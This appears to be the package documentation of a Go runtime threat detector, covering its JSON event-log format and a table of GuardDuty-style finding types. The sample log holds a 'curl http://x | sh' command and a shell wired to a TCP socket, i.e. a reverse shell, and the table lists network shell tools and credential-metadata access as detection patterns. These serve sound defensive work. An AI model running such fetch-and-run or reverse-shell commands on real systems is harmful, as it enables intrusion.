// Package threat turns what a running image did — processes, connections,
// DNS questions and file changes — into GuardDuty-style findings.
//
// # Event log
//
// The input is a JSON-lines log, one event per line. Every event has "time"
// (RFC 3339) and "type"; unknown fields are ignored, and of "fds" only the
// descriptors 0, 1 and 2 are kept:
//
//	{"time":"2026-11-28T10:00:00.123Z","type":"exec","pid":42,"ppid":1,"uid":0,"comm":"sh","exe":"/bin/sh",
//	 "argv":["sh","-c","curl http://x | sh"],"cwd":"/","fds":{"0":"socket:tcp:10.0.0.9:4444","1":"socket:tcp:10.0.0.9:4444","2":"pipe"}}
//	{"time":"...","type":"connect","pid":42,"comm":"curl","proto":"tcp","dst_ip":"203.0.113.7","dst_port":443,"src_port":51000}
//	{"time":"...","type":"dns","pid":42,"comm":"curl","query":"guarddutyc2activityb.com","qtype":"A","answers":["10.0.0.1"]}
//	{"time":"...","type":"file","pid":42,"comm":"sh","op":"write","path":"/etc/cron.d/x"}
//	{"time":"...","type":"listen","pid":42,"comm":"nc","proto":"tcp","port":4444}
//
// File ops are write, create, chmod, rename (path is the new name) and
// delete. A DNS query log is accepted too, one question per line, blank
// lines and # comments ignored, optional answers after the type:
//
//	TIME CLIENT_IP QUERY QTYPE [ANSWER...]
//	2026-11-28T10:00:00Z 10.0.0.2 example.com A
//
// The Reader picks the format from the first line that is not blank or a
// comment ('{' means JSON); JSON lines are accepted in a DNS log too. A bad
// line is an error naming FILE:LINE; ReadOptions.Lenient skips it instead
// and counts it.
//
// # Finding types
//
// Findings are deduplicated: one per finding type and artifact (domain,
// address, path, program), its Description giving the count and the first
// and last time seen. Severity and trigger:
//
//	Backdoor:Runtime/C&CActivity.B!DNS                        high    query of a domain on a c2 threat list
//	Backdoor:Runtime/C&CActivity.B                            high    connect to an address on a c2 threat list
//	CryptoCurrency:Runtime/BitcoinTool.B!DNS                  high    query of a domain on a mining list
//	CryptoCurrency:Runtime/BitcoinTool.B                      high    stratum URL in a command line, connect to a pool port
//	                                                                  (3333, 3334, 5555, 7777, 8333, 14433, 14444, 18080,
//	                                                                  45560, 45700) or to an address on a mining list
//	Execution:Runtime/CryptoMinerExecuted                     high    exec of xmrig, minerd, cpuminer, ethminer, t-rex...
//	Trojan:Runtime/DGADomainRequest.C!DNS                     medium  query whose registrable label (the "example" of
//	                                                                  example.co.uk) has ≥ 10 characters, entropy ≥ 3 bits
//	                                                                  and a run of 5 consonants, < 20% vowels or mixed digits
//	Trojan:Runtime/DNSDataExfiltration                        high    ExfilLabels (20) distinct subdomains of ≥ ExfilLabelLen
//	                                                                  (24) bytes under one domain within Window (1 min)
//	UnauthorizedAccess:Runtime/MaliciousIPCaller.Custom       high    connect to an IP/CIDR of a custom threat list
//	UnauthorizedAccess:Runtime/MaliciousDomainRequest.Custom!DNS high query of a domain of a custom threat list
//	Backdoor:Runtime/Spambot                                  medium  TCP connect to port 25, 465 or 587
//	Recon:Runtime/Portscan                                    medium  PortScanPorts (20) ports of one host, or one port of
//	                                                                  PortScanHosts (20) hosts, within Window
//	Behavior:Runtime/NetworkPortUnusual                       low     connect to or listen on a port outside AllowedPorts
//	                                                                  (only when AllowedPorts is given)
//	Execution:Runtime/NewBinaryExecuted                       medium  exec of a path written, created, chmodded or renamed
//	                                                                  earlier in the log, or absent from Manifest
//	Persistence:Runtime/SystemConfigModified                  medium  change below /etc (except resolv.conf, hosts,
//	                                                                  hostname, mtab, which runtimes write)
//	DefenseEvasion:Runtime/SystemBinaryModified               high    change below bin, sbin, lib, libexec dirs
//	Persistence:Runtime/CronJobModified                       high    change of crontab, cron.d, cron.*ly, crontabs, spool
//	Persistence:Runtime/SSHAuthorizedKeysModified             high    change of any authorized_keys file
//	Execution:Runtime/ReverseShell                            high    shell (or python/perl... one-liner spawning a shell
//	                                                                  or pty) whose fd 0 and 1 are the same network socket
//	Execution:Runtime/SuspiciousTool                          medium  nc, ncat, socat, nmap, masscan...; curl/wget piped or
//	                                                                  substituted into a shell
//	Execution:Runtime/PackageManagerExecuted                  low     apt, apt-get, apk, yum, dnf...; dpkg/rpm installing;
//	                                                                  pip, npm, yarn, gem installing
//	CredentialAccess:Runtime/InstanceMetadataAccess           medium  connect to, URL naming, or DNS answer of
//	                                                                  169.254.169.254, fd00:ec2::254 or 169.254.170.2
//
// Severity of file changes: a golden image's binaries, cron tables and SSH
// keys should never change once it runs, and changing them is how
// attackers persist or hide, hence high. Configuration under /etc is
// changed by legitimate entrypoints more often (users, certificates), so
// it is medium.
//
// DGA: only the registrable label is judged, so random host labels of CDNs
// (d111111abcdef8.cloudfront.net) and providers are not flagged; large
// providers' domains are also skipped outright. Registrable domains are
// approximated without the public suffix list: the last two labels, or
// three under a two-letter TLD with a generic second level (co.uk).
//
// Command lines in evidence are redacted: values after --password, -p, -u,
// --token..., "token=", "password=" and URL passwords become "*****".
package threat
